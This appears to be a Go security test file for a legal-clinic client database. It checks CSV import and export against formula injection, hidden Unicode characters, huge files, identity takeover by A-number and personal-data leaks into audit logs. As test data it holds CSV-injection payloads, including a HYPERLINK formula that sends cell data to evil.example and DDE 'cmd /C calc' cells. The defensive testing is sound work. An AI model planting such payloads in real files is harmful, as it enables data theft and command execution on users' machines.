package main

// Attacks through the CSV import and the exports and reports: formulas,
// huge and broken files, look-alike names, a row that takes over another
// client, a cancelled import, and personal data where only counts belong.

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"casedesk/app"
	"casedesk/app/desk"
	"casedesk/app/portal"
)

// importClients dry-runs and applies a client CSV as admin, and returns the plan.
func importClients(t *testing.T, r *deskRig, admin *portal.Session, csvText string) *desk.Plan {
	t.Helper()
	ctx := context.Background()
	f, err := desk.ParseCSV([]byte(csvText))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.desk.For(admin).DryRun(ctx, desk.ImportClients, f, desk.DefaultMapping(desk.ImportClients, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.desk.For(admin).Apply(ctx, p, nil); err != nil {
		t.Fatal(err)
	}
	return p
}

const clientHeader = "Given name,Family name,Date of birth,A-number,Street address,City,State,ZIP code,Phone,E-mail\n"

// readCSV reads an exported CSV file, after its byte-order mark.
func readCSV(t *testing.T, path string) [][]string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF"))))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// A spreadsheet formula in a cell is kept as the text it is, and every
// export neutralises it again.
func TestSecurityImportedFormulasExportNeutralised(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	formulas := []string{`=HYPERLINK("http://evil.example/?d="&A2,"Open")`, `+SUM(1;2)`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}
	text := clientHeader
	for i, fm := range formulas {
		text += csvLine(fm, "Ortiz"+string(rune('a'+i)), "02/03/1990", "", "1 Oak St", "Austin", "TX", "78701", "", "")
	}
	p := importClients(t, r, admin, text)
	if p.Count(desk.ActionAdd) != len(formulas) {
		t.Fatalf("plan: %s %+v", p.Summary(), p.RefusedFirst()[0])
	}
	for _, fm := range formulas {
		people, err := r.desk.For(admin).Search(ctx, "Ortiz", false)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, pp := range people {
			found = found || pp.GivenName == strings.Join(strings.Fields(fm), " ")
		}
		if !found {
			t.Errorf("%q not stored as typed", fm)
		}
	}
	// The audit log carries the staff member's own text too: a username
	// cannot start with =, but the details and records are neutralised all the same.
	dir := t.TempDir()
	for name, export := range map[string]func(string) (int, error){
		"clients": func(p string) (int, error) { return r.desk.For(admin).ExportClients(ctx, p, false) },
		"cases":   func(p string) (int, error) { return r.desk.For(admin).ExportCases(ctx, p, false) },
		"audit":   func(p string) (int, error) { return r.desk.For(admin).ExportAudit(ctx, p, false) },
	} {
		path := filepath.Join(dir, name+".csv")
		if _, err := export(path); err != nil {
			t.Fatal(err)
		}
		for i, row := range readCSV(t, path) {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s line %d: cell %q is a formula", name, i+1, cell)
				}
			}
		}
	}
}

func csvLine(cells ...string) string {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write(cells)
	w.Flush()
	return b.String()
}

// Every cell OWASP names is neutralised, whatever follows.
func TestSecurityNeutraliseOWASPCells(t *testing.T) {
	for _, c := range []string{"=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "=", "+", "-", "@", "\t", "\r",
		"=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"} {
		if got := desk.Neutralise(c); !strings.HasPrefix(got, "'") || got[1:] != c {
			t.Errorf("Neutralise(%q) = %q", c, got)
		}
	}
	for _, c := range []string{"", "José", "A012345678", "1985-03-14", "'=1"} {
		if got := desk.Neutralise(c); got != c {
			t.Errorf("Neutralise(%q) = %q, want it as it was", c, got)
		}
	}
}

// The funders' report CSV's first line names the clinic: a clinic name
// that is a formula must be neutralised there too.
func TestSecurityReportCSVHeaderNeutralised(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	if err := r.desk.For(admin).SetSetting(ctx, app.SettingClinicName, `=HYPERLINK("http://evil.example","Funding")`); err != nil {
		t.Skipf("the clinic name is refused: %v", err)
	}
	staff := r.staffSession(t, admin, "tomas.h", app.RoleStaff)
	rep, err := r.desk.For(staff).Report(ctx, desk.YearPeriod(time.Now().Year()))
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "report.csv")
	if err := r.desk.For(staff).SaveReportCSV(ctx, rep, path, false); err != nil {
		t.Fatal(err)
	}
	for i, row := range readCSV(t, path) {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("line %d: cell %q is a formula", i+1, cell)
			}
		}
	}
}

// Names that hide or reorder text (bidi overrides, zero-width and other
// invisible format characters, control characters) are refused, row by row.
func TestSecurityImportRefusesHiddenCharacters(t *testing.T) {
	r := newDeskRig(t)
	admin := r.setUp(t)
	bad := map[string]string{
		"right-to-left override": "Ana\u202Ezeur",
		"left-to-right embed":    "Ana\u202Aruiz",
		"right-to-left isolate":  "Ana\u2067ruiz\u2069",
		"zero-width space":       "Ana\u200Bruiz",
		"zero-width joiner":      "Ana\u200Druiz",
		"escape":                 "Ana\x1b[31mRuiz",
		"NUL":                    "Ana\x00Ruiz",
		"bell":                   "Ana\x07",
		"byte-order mark":        "\uFEFFAna",
	}
	text := clientHeader
	var order []string
	for name, v := range bad {
		order = append(order, name)
		text += csvLine(v, "Ruiz", "02/03/1990", "", "", "", "", "", "", "")
	}
	f, err := desk.ParseCSV([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.desk.For(admin).DryRun(context.Background(), desk.ImportClients, f, desk.DefaultMapping(desk.ImportClients, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	var accepted []string
	for i, row := range p.Rows {
		if row.Action != desk.ActionRefused {
			accepted = append(accepted, order[i])
		}
	}
	if len(accepted) > 0 {
		t.Errorf("names accepted with: %s", strings.Join(accepted, ", "))
	}
}

// A row that matches a client by A-number but gives another person's name
// and date of birth is most likely a wrong A-number: it must not rewrite
// that client's identity.
func TestSecurityImportRowCannotTakeOverAClientByANumber(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	cl, err := r.desk.For(admin).AddClient(ctx, desk.ClientForm{GivenName: "José", FamilyName: "Muñoz", DateOfBirth: "03/14/1985",
		ANumber: "A012345678", Line1: "1 Elm St", City: "Springfield", State: "IL", ZIP: "62701"}, false)
	if err != nil {
		t.Fatal(err)
	}
	f, err := desk.ParseCSV([]byte(clientHeader + csvLine("Mallory", "Evans", "01/01/1970", "A012345678", "", "", "", "", "", "")))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.desk.For(admin).DryRun(ctx, desk.ImportClients, f, desk.DefaultMapping(desk.ImportClients, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	if p.Rows[0].Action != desk.ActionRefused {
		t.Errorf("the row would %s %v", p.Rows[0].Action, p.Rows[0].Changes)
	}
	r.desk.For(admin).Apply(ctx, p, nil)
	page, err := r.desk.For(admin).Client(ctx, cl.ID)
	if err != nil {
		t.Fatal(err)
	}
	if got := page.Client; got.FamilyName != "Muñoz" || got.DateOfBirth != app.NewDate(1985, 3, 14) {
		t.Errorf("the client became %s %s, born %s", got.GivenName, got.FamilyName, got.DateOfBirth.ISO())
	}
}

// Two rows with one A-number, or one A-number in the file and the store
// under another name, never make two clients of one number.
func TestSecurityImportDuplicateANumbers(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	p := importClients(t, r, admin, clientHeader+
		csvLine("Ana", "Ruiz", "02/03/1990", "A012345678", "", "", "", "", "", "")+
		csvLine("Eva", "Soto", "04/05/1991", "a-012-345-678", "", "", "", "", "", "")+
		csvLine("Eva", "Soto", "04/05/1991", "12345678", "", "", "", "", "", ""))
	if p.Count(desk.ActionAdd) != 1 || p.Count(desk.ActionRefused) != 2 {
		t.Errorf("plan: %s", p.Summary())
	}
	clients, _ := r.c.Desk().AllClients(ctx)
	n := 0
	for _, c := range clients {
		if c.ANumber == "A012345678" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d clients hold A012345678", n)
	}
}

// A file that is not UTF-8, one far too large, and one whose single cell
// is enormous are refused before anything is planned or written, without
// reading a huge file whole.
func TestSecurityImportHostileFiles(t *testing.T) {
	if _, err := desk.ParseCSV([]byte(clientHeader + "Jos\xe9,Mu\xf1oz,03/14/1985\n")); !errors.Is(err, desk.ErrImportFile) {
		t.Errorf("Latin-1: %v", err)
	}
	if _, err := desk.ParseCSV([]byte(clientHeader + "Ana,Ruiz,\xed\xa0\x80\n")); !errors.Is(err, desk.ErrImportFile) {
		t.Errorf("a UTF-16 surrogate in UTF-8: %v", err)
	}
	cr := &countingReader{limit: 1 << 30}
	if _, err := desk.ReadCSV(cr); !errors.Is(err, desk.ErrImportFile) {
		t.Errorf("a 1 GB file: %v", err)
	}
	if cr.n > desk.MaxImportBytes+64<<10 {
		t.Errorf("read %d bytes of a 1 GB file", cr.n)
	}
	// One cell of 32 MB: read, but the row is refused, and its message
	// does not repeat the cell.
	r := newDeskRig(t)
	admin := r.setUp(t)
	huge := strings.Repeat("x", 32<<20)
	f, err := desk.ParseCSV([]byte(clientHeader + csvLine(huge, "Ruiz", "02/03/1990", "", "", "", "", "", "", "")))
	if err != nil {
		return // refused whole: fine
	}
	p, err := r.desk.For(admin).DryRun(context.Background(), desk.ImportClients, f, desk.DefaultMapping(desk.ImportClients, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	if p.Rows[0].Action != desk.ActionRefused {
		t.Fatalf("a 32 MB name: %s", p.Rows[0].Action)
	}
	for _, pr := range p.Rows[0].Problems {
		if len(pr.Message) > 1000 {
			t.Errorf("a problem of %d bytes", len(pr.Message))
		}
	}
}

// A refused row with one enormous cell is shown in the dry run's table by
// a bounded text, not the whole cell.
func TestSecurityImportHugeCellShownBounded(t *testing.T) {
	r := newDeskRig(t)
	admin := r.setUp(t)
	f, err := desk.ParseCSV([]byte(clientHeader + csvLine(strings.Repeat("x", 32<<20), "Ruiz", "02/03/1990", "", "", "", "", "", "", "")))
	if err != nil {
		return
	}
	p, err := r.desk.For(admin).DryRun(context.Background(), desk.ImportClients, f, desk.DefaultMapping(desk.ImportClients, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.Rows[0].What) > 1000 {
		t.Errorf("the row is shown as %d bytes", len(p.Rows[0].What))
	}
}

// A soft hyphen is invisible on screen and in print; it must not make a
// look-alike name that slips a duplicate past the name and date of birth
// check.
func TestSecurityImportSoftHyphenNoDuplicate(t *testing.T) {
	r := newDeskRig(t)
	admin := r.setUp(t)
	importClients(t, r, admin, clientHeader+csvLine("Ana", "Ruiz", "02/03/1990", "", "", "", "", "", "", ""))
	p := importClients(t, r, admin, clientHeader+csvLine("Ana", "Ru\u00ADiz", "02/03/1990", "", "", "", "", "", "", ""))
	if p.Count(desk.ActionAdd) != 0 {
		t.Errorf("a look-alike of an existing client would be added: %s", p.Summary())
	}
}

// countingReader is a file of limit bytes of one client row after another.
type countingReader struct{ n, limit int }

func (c *countingReader) Read(b []byte) (int, error) {
	if c.n >= c.limit {
		return 0, io.EOF
	}
	row := "Ana,Ruiz,02/03/1990\n"
	k := 0
	for k < len(b) && c.n < c.limit {
		b[k] = row[c.n%len(row)]
		k++
		c.n++
	}
	return k, nil
}

// A cancelled import and one refused at apply leave no client and no
// audit row; an import that works writes one audit row per record and a
// summary, none of them naming a person.
func TestSecurityImportAllOrNothingAndAudit(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	text := clientHeader
	for i := 0; i < 600; i++ {
		text += csvLine("Ana", "Ruiz"+strings.Repeat("z", i%7)+string(rune('a'+i%26))+string(rune('a'+i/26)), "02/03/1990",
			"", "1 Oak St", "Austin", "TX", "78701", "", "")
	}
	f, err := desk.ParseCSV([]byte(text))
	if err != nil {
		t.Fatal(err)
	}
	m := desk.DefaultMapping(desk.ImportClients, f.Header)
	p, err := r.desk.For(admin).DryRun(ctx, desk.ImportClients, f, m)
	if err != nil || p.Count(desk.ActionAdd) != 600 {
		t.Fatalf("plan: %v %s", err, p.Summary())
	}
	before := auditCount(t, r)
	clientsBefore, _ := r.c.Desk().AllClients(ctx)
	cctx, cancel := context.WithCancel(ctx)
	_, err = r.desk.For(admin).Apply(cctx, p, func(done, total int) {
		if done == total/2 {
			cancel()
		}
	})
	cancel()
	if !errors.Is(err, desk.ErrImportCancelled) {
		t.Errorf("cancelled: %v", err)
	}
	if clients, _ := r.c.Desk().AllClients(ctx); len(clients) != len(clientsBefore) {
		t.Errorf("a cancelled import left %d clients", len(clients)-len(clientsBefore))
	}
	if n := auditCount(t, r); n != before {
		t.Errorf("a cancelled import left %d audit rows", n-before)
	}
	// A fresh plan applies, audited row by row without names.
	p, err = r.desk.For(admin).DryRun(ctx, desk.ImportClients, f, m)
	if err != nil {
		t.Fatal(err)
	}
	before = auditCount(t, r)
	res, err := r.desk.For(admin).Apply(ctx, p, nil)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := r.desk.CommandLine("audit").AuditLog(ctx, desk.AuditFilter{From: time.Now().Add(-time.Hour)})
	if err != nil {
		t.Fatal(err)
	}
	if n := auditCount(t, r) - before; n != res.Added+res.Updated+1 {
		t.Errorf("%d audit rows for %d records", n, res.Added+res.Updated)
	}
	for _, e := range rows {
		if strings.Contains(e.Detail, "Ruiz") || strings.Contains(e.Detail, "Ana") || strings.Contains(e.Detail, "1990") || strings.Contains(e.Detail, "Oak") {
			t.Errorf("audit detail names a person: %+v", e)
		}
	}
}

// Exports are 0600, never replace a file unless told, leave nothing when
// cancelled, and are audited with counts only.
func TestSecurityExportFiles(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	importClients(t, r, admin, clientHeader+csvLine("Ana", "Ruiz", "02/03/1990", "A012345678", "1 Oak St", "Austin", "TX", "78701", "", ""))
	dir := t.TempDir()
	path := filepath.Join(dir, "clients.csv")
	if _, err := r.desk.For(admin).ExportClients(ctx, path, false); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(path); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("mode: %v %v", fi.Mode(), err)
	}
	os.WriteFile(path, []byte("mine"), 0o644)
	if _, err := r.desk.For(admin).ExportClients(ctx, path, false); !errors.Is(err, fs.ErrExist) {
		t.Errorf("over a file already there: %v", err)
	}
	if b, _ := os.ReadFile(path); string(b) != "mine" {
		t.Error("an export replaced a file without being told to")
	}
	// A link in the export's place is not followed to write elsewhere.
	target := filepath.Join(t.TempDir(), "elsewhere.txt")
	os.WriteFile(target, []byte("theirs"), 0o600)
	link := filepath.Join(dir, "link.csv")
	os.Symlink(target, link)
	r.desk.For(admin).ExportClients(ctx, link, false)
	if b, _ := os.ReadFile(target); string(b) != "theirs" {
		t.Error("an export wrote through a link without being told to replace it")
	}
	cancelled, cancel := context.WithCancel(ctx)
	cancel()
	if _, err := r.desk.For(admin).ExportCases(cancelled, filepath.Join(dir, "cases.csv"), false); err == nil {
		t.Error("a cancelled export worked")
	}
	if names := dirNames(t, dir); names != "clients.csv,link.csv" {
		t.Errorf("the folder holds %s", names)
	}
	rows, _ := r.desk.For(admin).AuditLog(ctx, desk.AuditFilter{Action: "export."})
	if len(rows) != 1 {
		t.Errorf("%d export rows audited", len(rows))
	}
	for _, e := range rows {
		if strings.Contains(e.Detail+e.RecordID, "Ruiz") || strings.Contains(e.Detail+e.RecordID, "012345678") || strings.Contains(e.Detail+e.RecordID, dir) {
			t.Errorf("export audit row: %+v", e)
		}
	}
}

// A funders' report, as PDF and as CSV, holds numbers and never a client's
// name, A-number, date of birth or receipt number.
func TestSecurityReportHoldsNoPersonalData(t *testing.T) {
	d, _, receipt := clinicWithCase(t)
	d.write("client.add", "people", "add", "--given", "Zebulon", "--family", "Quixotic", "--date-of-birth", "02/03/1990",
		"--a-number", "A087654321", "--street", "1 Oak St", "--city", "Austin", "--state", "TX", "--zip", "78701")
	dir := t.TempDir()
	year := time.Now().Format("2006")
	pdf, csvPath := filepath.Join(dir, "r.pdf"), filepath.Join(dir, "r.csv")
	d.write("report.saved", "report", "--year", year, "--pdf", pdf, "--csv", csvPath)
	b, _ := os.ReadFile(csvPath)
	for name, text := range map[string]string{"pdf": pdfText(t, pdf), "csv": string(b), "printed": d.read("report", "--year", year)} {
		for _, secret := range []string{"Zebulon", "Quixotic", "087654321", "7654321", "1990", "Muñoz", "Núñez", receipt, "Oak St"} {
			if strings.Contains(text, secret) {
				t.Errorf("the %s report holds %q", name, secret)
			}
		}
	}
}

// A client added at the desk between the dry run and the import (same
// name and date of birth, no A-number) is not added a second time: the
// import is refused as stale, as it is for an A-number taken meanwhile.
func TestSecurityImportStalePlanMakesNoDuplicate(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	f, err := desk.ParseCSV([]byte(clientHeader + csvLine("Ana", "Ruiz", "02/03/1990", "", "", "", "", "", "", "")))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.desk.For(admin).DryRun(ctx, desk.ImportClients, f, desk.DefaultMapping(desk.ImportClients, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.desk.For(admin).AddClient(ctx, desk.ClientForm{GivenName: "Ana", FamilyName: "Ruiz", DateOfBirth: "02/03/1990"}, true); err != nil {
		t.Fatal(err)
	}
	before := auditCount(t, r)
	_, err = r.desk.For(admin).Apply(ctx, p, nil)
	if n := len(mustClients(t, r)); n != 1 {
		t.Errorf("%d clients named Ana Ruiz born 02/03/1990 (apply: %v)", n, err)
	}
	if err != nil && auditCount(t, r) != before {
		t.Error("a refused import wrote audit rows")
	}
}

func mustClients(t *testing.T, r *deskRig) []desk.Client {
	t.Helper()
	cs, err := r.c.Desk().AllClients(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return cs
}

// A case row naming another client's receipt number never moves the case
// to the row's client, nor changes it.
func TestSecurityImportCaseRowCannotMoveAnotherClientsCase(t *testing.T) {
	r := newDeskRig(t)
	ctx := context.Background()
	admin := r.setUp(t)
	importClients(t, r, admin, clientHeader+
		csvLine("José", "Muñoz", "03/14/1985", "A012345678", "", "", "", "", "", "")+
		csvLine("Mal", "Lory", "01/01/1970", "A087654321", "", "", "", "", "", ""))
	cases := "Receipt number,Form,A-number,Received date,Status,Status date\n"
	f, err := desk.ParseCSV([]byte(cases + "EAC2190012345,I-485,A012345678,01/15/2026,Case Was Received,01/15/2026\n"))
	if err != nil {
		t.Fatal(err)
	}
	p, err := r.desk.For(admin).DryRun(ctx, desk.ImportCases, f, desk.DefaultMapping(desk.ImportCases, f.Header))
	if err != nil || p.Count(desk.ActionAdd) != 1 {
		t.Fatalf("plan: %v %s", err, p.Summary())
	}
	if _, err := r.desk.For(admin).Apply(ctx, p, nil); err != nil {
		t.Fatal(err)
	}
	f, err = desk.ParseCSV([]byte(cases + "eac-21-900-12345,I-130,A087654321,02/01/2026,Case Was Approved,03/01/2026\n"))
	if err != nil {
		t.Fatal(err)
	}
	p, err = r.desk.For(admin).DryRun(ctx, desk.ImportCases, f, desk.DefaultMapping(desk.ImportCases, f.Header))
	if err != nil {
		t.Fatal(err)
	}
	if p.Rows[0].Action != desk.ActionRefused {
		t.Errorf("another client's case would be %s: %v", p.Rows[0].Action, p.Rows[0].Changes)
	}
	r.desk.For(admin).Apply(ctx, p, nil)
	people, err := r.desk.For(admin).Search(ctx, "EAC2190012345", false)
	if err != nil || len(people) != 1 || people[0].FamilyName != "Muñoz" {
		t.Errorf("the case now belongs to %+v (%v)", people, err)
	}
}
